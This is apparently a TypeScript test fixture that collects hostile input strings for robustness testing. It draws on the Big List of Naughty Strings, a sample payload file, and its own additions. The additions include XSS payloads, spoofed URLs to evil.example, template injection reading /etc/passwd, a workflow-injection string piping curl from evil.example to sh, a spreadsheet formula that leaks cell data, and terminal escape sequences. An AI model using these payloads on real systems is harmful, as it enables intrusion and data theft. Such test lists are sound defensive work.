import { readFileSync } from 'node:fs';
import { PAYLOADS } from '../../service/sample/hostile/payloads.ts';

/** The Big List of Naughty Strings (Max Woolf, MIT), as its package ships it. */
const naughty = JSON.parse(
  readFileSync('node_modules/big-list-of-naughty-strings/blns.json', 'utf8'),
) as string[];

/** What neither that list nor the hostile repository of the sample has. */
const more = [
  // Direction, invisibility and stacks at the seams of what is put around them.
  '\u202e\u202e\u202e\u2066\u2067\u2068 never closed',
  '\u2069\u2069\u2069\u202c\u202c\u202c closed without opening',
  '\u200d\u200d\u200d',
  'a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a'.repeat(40),
  '\u0e49'.repeat(200),
  '\u0489'.repeat(300),
  `${'\u{1f468}\u200d'.repeat(500)}\u{1f468}`,
  '\ufdfd'.repeat(60),
  '\u{12031}'.repeat(40),
  '\u2e3b'.repeat(40),
  // Long in every way.
  'W'.repeat(20_000),
  '/'.repeat(5_000),
  '-'.repeat(5_000),
  '\u00a0'.repeat(3_000),
  '\t'.repeat(500),
  '\n'.repeat(500),
  '\u3000'.repeat(2_000),
  `${'['.repeat(3_000)}${']'.repeat(3_000)}`,
  // No Unicode text.
  '\ud800',
  '\udfff',
  'a\udc00\ud800b',
  '\ud83d',
  `${'x'.repeat(999)}\u{1f600}tail`,
  // Names that objects have, and what JavaScript makes of values.
  '__defineGetter__',
  'isPrototypeOf',
  'then',
  'toJSON',
  '$$typeof',
  'dangerouslySetInnerHTML',
  '{"__proto__":{"polluted":true}}',
  // Addresses: look-alikes, credentials, schemes, and other origins that look like paths.
  'https://аpple.example/',
  'https://gıthub.example/',
  'https://xn--80ak6aa92e.example/',
  'http://git.example@evil.example/',
  'https://git.example\u2044evil.example/',
  'https://\u202eelpmaxe.live@evil.example/',
  'https://evil.example\\.git.example/',
  'https:\\\\evil.example/',
  'https:///evil.example/',
  'HTTPS://EVIL.EXAMPLE/%0d%0aX:1',
  'https://0x7f000001:22/',
  'https://evil.example/#:~:text=sign%20in',
  'https://[::ffff:127.0.0.1]/',
  `https://${'a.'.repeat(120)}example/`,
  `https://git.example/${'%41'.repeat(3_000)}`,
  'https://git.example/?q=<script>alert(1)</script>',
  'javascript://git.example/%0aalert(1)',
  'java\tscript:alert(1)',
  '\u00a0javascript:alert(1)',
  'view-source:javascript:alert(1)',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  'intent://evil.example#Intent;scheme=https;end',
  'blob:null/00000000-0000-0000-0000-000000000000',
  '//evil.example/a',
  '/\\evil.example/a',
  '/connect#code=stolen',
  '../../../connect?returnTo=//evil.example',
  '%2e%2e%2f%2e%2e%2fconnect',
  // Markdown, templates, spreadsheets, shells, terminals.
  '```\n</code></pre><script>alert(1)</script>\n```',
  '~~~~\n[x]: javascript:alert(1)\n~~~~',
  '![x](javascript:alert(1)) <https://evil.example>',
  '| a | b |\n|---|---|\n| `|` | \\| |',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '{{#with "s" as |string|}}{{/with}}',
  '{% include "/etc/passwd" %}<%= system("id") %>#{7*7}@{7*7}*{7*7}',
  '${{ github.event.issue.title }} && curl evil.example | sh',
  '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
  '%0A=1+1',
  ';=1+1',
  "'=1+1",
  '\u001b]0;owned\u0007\u001b[2J\u001b[1;1H\u001b[8mhidden\u001b[0m',
  '\u009b31mC1\u009c \u0090q\u009c',
  'CON.txt',
  'a\u202egnp.exe',
  '~/.ssh/id_rsa\0.png',
  '. . /',
  // Numbers and times that are none.
  '9'.repeat(400),
  '1e999',
  '-0',
  '0x1p-1074',
  '275760-09-13T00:00:00.001Z',
  '-000001-01-01T00:00:00Z',
  '2026-02-30T25:61:61Z',
  '2026-11-20T09:00:00+99:99',
  '0000-00-00T00:00:00Z',
  '9999-12-31T23:59:60Z',
];

/** Every hostile string, each once. */
export const hostileStrings: readonly string[] = [
  ...new Set([
    ...naughty,
    ...PAYLOADS.flatMap(({ texts, urls = [], paths = [] }) => [...texts, ...urls, ...paths]),
    ...more,
  ]),
];
